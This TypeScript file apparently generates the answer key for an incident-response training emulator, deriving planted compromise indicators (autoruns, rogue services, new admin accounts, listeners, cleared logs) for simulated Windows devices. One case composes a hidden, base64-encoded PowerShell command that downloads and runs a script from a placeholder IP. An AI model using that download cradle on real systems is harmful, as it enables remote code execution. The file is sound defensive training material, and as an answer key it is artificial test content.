/**
 * The answer key: for each plant of a scenario, the device, the kind, when, the indicators a
 * responder should report (names, paths, PIDs, ports, accounts) and the package files that show
 * them. Indicators derive from the scenario's name, the device and the plant's position only
 * (not the emulator's seed), so the key is known when the scenario loads and the package builder
 * (emulator/packages/devicePlants.ts) writes exactly these values into every file.
 */
import { SeededRandom } from "../util/ids";
import type { PlantInput, PlantKind } from "./plantSchema";

export interface PlantedFinding {
  machineId: string;
  computerDnsName: string;
  kind: PlantKind;
  /** ISO 8601, when the trace was left on the device's clock. */
  at: string;
  indicators: Record<string, string | number>;
  /** Package paths (ZIP entry names) where the trace shows. */
  files: string[];
}

const FIRST = ["anna", "ben", "chloe", "david", "emma", "farid", "grace", "hugo", "ines", "jonas", "kim", "lena", "marco", "nora", "omar", "paula"];
const LAST = ["schmidt", "jensen", "martin", "rossi", "novak", "silva", "kowalski", "dubois", "meyer", "larsen"];

/** The user who works on a device: derived from its id alone, so plants and the generated profile agree. */
export function primaryUser(machineId: string): string {
  const r = new SeededRandom(`user|${machineId}`);
  return `${r.pick(FIRST)}.${r.pick(LAST)}`;
}

const LURES = ["OneDriveUpdater", "MicrosoftEdgeUpdateCore", "AdobeSync", "WinDefendHelper", "SecurityHealthHost", "TeamsUpdater"];
const ADMINS = ["svc_backup", "helpdesk2", "admin01", "support_tmp", "sqlsvc"];
const THREATS = ["Trojan:Win32/Meterpreter.A", "HackTool:Win64/Mimikatz.D", "Backdoor:Win32/CobaltStrike.B!dha", "Trojan:Win64/Sliver.A!MTB"];
const PORTS = [4444, 8443, 31337, 1337, 5555, 9001];

const b64utf16 = (s: string) => Buffer.from(s, "utf16le").toString("base64");

/** The answer key of one plant. `index` keeps two plants of the same kind on a device apart. */
export function plantFinding(
  scenarioName: string,
  machine: { id: string; computerDnsName: string },
  plant: PlantInput,
  index: number,
  collectedAtMs: number,
): PlantedFinding {
  const r = new SeededRandom(`${scenarioName}|plant|${machine.id}|${plant.kind}|${index}`);
  const hoursAgo = plant.hoursAgo ?? r.int(2, 72) + r.int(0, 59) / 60;
  const atMs = Math.round(collectedAtMs - hoursAgo * 3_600_000);
  const user = primaryUser(machine.id);
  const tag = r.bytes(3).toString("hex");
  const pid = 4 * r.int(1200, 4900);
  const base = { machineId: machine.id, computerDnsName: machine.computerDnsName, kind: plant.kind, at: new Date(atMs).toISOString() };
  switch (plant.kind) {
    case "run-key-autorun": {
      const lure = r.pick(LURES);
      const path = `C:\\Users\\${user}\\AppData\\Roaming\\${lure}\\${lure.toLowerCase()}.exe`;
      return { ...base, indicators: { valueName: lure, user, path, pid }, files: ["Autoruns/Run.txt", "Processes/Processes.csv", "Prefetch files/PrefetchFilesList.txt"] };
    }
    case "user-writable-service": {
      const name = `${r.pick(["Wmi", "Net", "Sys", "Perf"])}${r.pick(["Helper", "Broker", "Monitor", "Sync"])}Svc`;
      const path = r.pick([`C:\\Users\\Public\\Libraries\\${name.toLowerCase()}.exe`, `C:\\ProgramData\\${name}\\${name.toLowerCase()}.exe`, `C:\\Users\\${user}\\AppData\\Local\\Temp\\${tag}.exe`]);
      return { ...base, indicators: { serviceName: name, path, pid }, files: ["Services/Services.csv", "Processes/Processes.csv", "Security event log/Security.evtx", "Prefetch files/PrefetchFilesList.txt"] };
    }
    case "encoded-powershell-task": {
      const taskName = `\\Microsoft\\Windows\\${r.pick(["UpdateOrchestrator", "WindowsUpdate", "Maintenance"])}\\${r.pick(["Sync", "Refresh", "Cleanup"])}${tag.slice(0, 4).toUpperCase()}`;
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.${r.int(2, 250)}/${tag}.ps1')`;
      const command = `powershell.exe -NoProfile -WindowStyle Hidden -enc ${b64utf16(script)}`;
      return { ...base, indicators: { taskName, command, decoded: script }, files: ["Scheduled tasks/ScheduledTasks.csv", "Security event log/Security.evtx"] };
    }
    case "new-local-admin": {
      const account = r.pick(ADMINS);
      return { ...base, indicators: { account, rid: 1000 + r.int(1, 30) }, files: ["Users and Groups/Administrators.txt", "Users and Groups/Users.txt", "Security event log/Security.evtx"] };
    }
    case "temp-listener": {
      const exe = `${r.pick(["tmp", "svc", "upd", "rdp"])}${tag}.exe`;
      const path = `C:\\Users\\${user}\\AppData\\Local\\Temp\\${exe}`;
      return {
        ...base,
        indicators: { process: exe, path, pid, port: r.pick(PORTS) },
        files: ["Processes/Processes.csv", "Network connections/ActiveNetConnections.txt", `Temp Directories/TempDirectory_${user}.txt`, "Prefetch files/PrefetchFilesList.txt", "Security event log/Security.evtx"],
      };
    }
    case "logon-burst": {
      const logonType = r.pick([3, 10]);
      return {
        ...base,
        indicators: { account: r.pick(["administrator", user, "admin"]), sourceIp: `198.51.100.${r.int(2, 250)}`, failures: r.int(20, 60), logonType },
        files: ["Security event log/Security.evtx"],
      };
    }
    case "security-log-cleared":
      return { ...base, indicators: { account: user }, files: ["Security event log/Security.evtx"] };
    case "defender-detection": {
      const threat = r.pick(THREATS);
      return { ...base, indicators: { threat, path: `C:\\Users\\${user}\\Downloads\\${tag}.exe` }, files: ["WdSupportLogs/MpCmdRunLog.txt", "WdSupportLogs/MPSupportFiles.cab"] };
    }
  }
}
